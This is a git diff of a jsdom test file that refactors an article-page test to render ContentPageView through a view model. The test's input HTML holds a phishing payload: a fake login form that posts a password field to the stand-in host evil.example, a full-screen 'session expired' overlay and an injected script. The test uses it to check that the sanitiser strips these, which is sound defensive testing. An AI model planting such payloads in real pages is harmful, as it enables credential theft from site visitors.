@@ -1,7 +1,8 @@
 import { render, setupDom, teardownDom, within } from '../support/dom.js';
 import { expect } from 'chai';
 import { decodeSiteSettings } from '../../../core/settings/settings.codec.js';
-import { ArticleFrame } from '../../../ui/pages/content-page.view.js';
+import { ContentPageView } from '../../../ui/pages/content-page.view.js';
+import { contentPageViewModel } from '../../../ui/pages/content-page.view-model.js';
 
 /** An article page whose body holds what an agency's CMS (or an attacker with its password) might put there. */
 function articleSettings(body: string) {
@@ -24,14 +25,14 @@ describe('an article page (jsdom)', () => {
   afterEach(() => teardownDom());
 
   it('goes through the one sanitiser: no forms, no password fields, no fixed overlays, no scripts', async () => {
-    const view = await render(
-      <ArticleFrame
-        settings={articleSettings(
-          '<p>Prices rose in spring.</p><form action="https://evil.example"><input name="password" type="password"><button>Log in</button></form>' +
-            '<div style="position:fixed;inset:0">Your session expired</div><script>window.ran = true</script><a href="/valuation">Book a valuation</a>',
-        )}
-      />,
+    const vm = contentPageViewModel(
+      articleSettings(
+        '<p>Prices rose in spring.</p><form action="https://evil.example"><input name="password" type="password"><button>Log in</button></form>' +
+          '<div style="position:fixed;inset:0">Your session expired</div><script>window.ran = true</script><a href="/valuation">Book a valuation</a>',
+      ),
+      [],
     );
+    const view = await render(<ContentPageView vm={vm} />);
     const body = await bodyOf(view.container, 'Prices rose in spring.');
     expect(body.querySelector('form, input, button, script')).to.equal(null);
     expect(body.querySelector('[style]')).to.equal(null);
